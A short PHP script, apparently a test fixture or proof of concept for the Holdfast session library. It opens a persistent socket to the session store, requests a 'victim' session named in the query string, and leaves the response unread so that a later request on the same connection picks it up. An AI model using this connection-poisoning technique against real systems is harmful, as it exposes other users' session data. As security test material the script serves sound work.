<?php

declare(strict_types=1);

// Leaves what a request leaves behind that dies between sending and reading: an answer nobody has asked for.
use Holdfast\Session\SessionKey;

$key = SessionKey::ofSessionId($_GET['victim'])->value;
$address = str_replace('http://', 'tcp://', explode('?', (string) ini_get('session.save_path'))[0]);
$stream = stream_socket_client($address, $code, $why, 5, STREAM_CLIENT_CONNECT | STREAM_CLIENT_PERSISTENT);
fwrite($stream, "GET /v1/namespaces/default/sessions/$key HTTP/1.1\r\nSession-Request: dead\r\n\r\n");
if (isset($_GET['arrived'])) {
    $read = [$stream];
    $none = null;
    stream_select($read, $none, $none, 5);
}
echo 'left';
